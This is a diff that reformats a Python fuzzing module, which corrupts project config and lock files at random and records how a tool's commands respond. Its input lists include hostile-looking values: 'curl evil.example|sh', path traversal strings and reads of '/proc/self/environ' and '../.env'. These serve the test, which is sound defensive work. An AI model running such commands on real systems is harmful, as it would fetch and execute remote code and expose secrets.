@@ -1,4 +1,5 @@
-"""Specs, locks, sums, includes and manifests with random damage, by a seed: `python -m tests.hostile.fuzz --seed N --runs M`.
+"""Specs, locks, sums, includes and manifests with random damage, by a seed: `python -m tests.hostile.fuzz --seed N
+--runs M`.
 
 Each run damages one file of a clone in a few places and gives it to a command. The results are written to fuzz.md.
 """
@@ -24,7 +25,18 @@ from tests.hostile.making import LOCK, SPEC, SUMS
 from tests.hostile.worlds import World, surroundings, template
 
 COMMANDS = (FULL, BUILD, Command(("check",)), DIFF, Command(("plan",)), Command(("diff",)))
-TARGETS = (SPEC, SPEC, LOCK, LOCK, SUMS, "app/extra/settings.yaml", "app/deploy/images/prod/kustomization.yaml", "app/api/package.json", "app/web/requirements.txt", "app/docker-bake.hcl")
+TARGETS = (
+    SPEC,
+    SPEC,
+    LOCK,
+    LOCK,
+    SUMS,
+    "app/extra/settings.yaml",
+    "app/deploy/images/prod/kustomization.yaml",
+    "app/api/package.json",
+    "app/web/requirements.txt",
+    "app/docker-bake.hcl",
+)
 # What parsers, paths, terminals and templates take for something else.
 WORDS = (
     b"../../outside/victim/notes.txt", b"/dev/zero", b"/proc/self/environ", b"../.env", b"\0", b"\n", b"\r", b"\t", b"\x1b[31m", b"\xff\xfe", b"\xed\xa0\x80", b"&a ", b"*a",
@@ -32,7 +44,37 @@ WORDS = (
     b"null", b"~", b"yes", b"1e999", b"-1", b"0", b"9" * 400, b"NaN", b"K" * 1100, b"a." * 600, b"# aggregate ../x", b"# seeded x", b"# revision 9 x", b"0" * 64 + b"  x",
     "\u202e\u200b\u2028".encode(), "\U000e0072".encode(), b"%", b"`", b"@", b"\\", b"\\ud800", b"http://evil.example|sh", b"evil.example/x:1",
 )  # fmt: skip
-VALUES: tuple[Any, ...] = (None, True, -1, 0, 2, 99, 1e300, "", "x", "sh", "../../x", "1Gi", "999m", "root", "8080", "curl evil.example|sh", "evil.example/x:1", "model", "heuristics", "-", "\x1b", [], {}, [None], {"": None}, ["sh", "-c", "x"], {"by": "model"}, "0" * 16, 10**400)
+VALUES: tuple[Any, ...] = (
+    None,
+    True,
+    -1,
+    0,
+    2,
+    99,
+    1e300,
+    "",
+    "x",
+    "sh",
+    "../../x",
+    "1Gi",
+    "999m",
+    "root",
+    "8080",
+    "curl evil.example|sh",
+    "evil.example/x:1",
+    "model",
+    "heuristics",
+    "-",
+    "\x1b",
+    [],
+    {},
+    [None],
+    {"": None},
+    ["sh", "-c", "x"],
+    {"by": "model"},
+    "0" * 16,
+    10**400,
+)
 
 
 def damaged(chance: random.Random, content: bytes, target: str) -> bytes:
@@ -96,7 +138,18 @@ def _value(chance: random.Random, content: bytes) -> bytes:
     return b"".join(lines)
 
 
-CHANGES: tuple[Callable[[random.Random, bytes], bytes], ...] = (_insert, _insert, _replace, _flip, _cut, _repeat, _end, _lines, _value, _value)
+CHANGES: tuple[Callable[[random.Random, bytes], bytes], ...] = (
+    _insert,
+    _insert,
+    _replace,
+    _flip,
+    _cut,
+    _repeat,
+    _end,
+    _lines,
+    _value,
+    _value,
+)
 
 
 def _as_data(chance: random.Random, content: bytes) -> bytes:
@@ -115,10 +168,14 @@ def _as_data(chance: random.Random, content: bytes) -> bytes:
         else:
             alike = [value for value in VALUES if type(value) is type(at.get(key))]
             at[key] = chance.choice(alike if alike and chance.random() < 0.7 else VALUES)
-    return json.dumps(held, indent=2, sort_keys=True, ensure_ascii=False, allow_nan=True).encode("utf-8", "surrogatepass")
+    return json.dumps(held, indent=2, sort_keys=True, ensure_ascii=False, allow_nan=True).encode(
+        "utf-8", "surrogatepass"
+    )
 
 
-def runs(server: Forkserver, original: World, place: Callable[[], Path], seed: int, count: int) -> Iterator[tuple[str, int, list[str]]]:
+def runs(
+    server: Forkserver, original: World, place: Callable[[], Path], seed: int, count: int
+) -> Iterator[tuple[str, int, list[str]]]:
     """Target, exit code and what broke, of every run. A run depends on the seed and its number alone."""
     for number in range(count):
         chance = random.Random(f"{seed}/{number}")
@@ -140,7 +197,9 @@ def runs(server: Forkserver, original: World, place: Callable[[], Path], seed: i
 
 
 def main(given: list[str] | None = None) -> int:
-    parser = argparse.ArgumentParser(prog="python -m tests.hostile.fuzz", description="Damage files by chance, and see what breaks.")
+    parser = argparse.ArgumentParser(
+        prog="python -m tests.hostile.fuzz", description="Damage files by chance, and see what breaks."
+    )
     parser.add_argument("--seed", type=int, default=1)
     parser.add_argument("--runs", type=int, default=5000)
     parser.add_argument("--write", action="store_true", help="write fuzz.md beside this module")
@@ -163,9 +222,16 @@ def main(given: list[str] | None = None) -> int:
 def report(seed: int, count: int, codes: Counter[tuple[str, int]], found: list[str]) -> str:
     """The results as a page."""
     ends = sorted({code for _, code in codes})
-    head = ["# Files with random damage", "", f"`python -m tests.hostile.fuzz --seed {seed} --runs {count} --write`: {count} runs, {len(found)} findings.", ""]
+    head = [
+        "# Files with random damage",
+        "",
+        f"`python -m tests.hostile.fuzz --seed {seed} --runs {count} --write`: {count} runs, {len(found)} findings.",
+        "",
+    ]
     table = ["| file | " + " | ".join(f"exit {code}" for code in ends) + " |", "|---" * (len(ends) + 1) + "|"]
-    table += [f"| {target} | " + " | ".join(str(codes[target, code]) for code in ends) + " |" for target in sorted({*TARGETS})]
+    table += [
+        f"| {target} | " + " | ".join(str(codes[target, code]) for code in ends) + " |" for target in sorted({*TARGETS})
+    ]
     return "\n".join([*head, *table, "", *(f"- {each}" for each in found[:200])]).rstrip() + "\n"
 
 
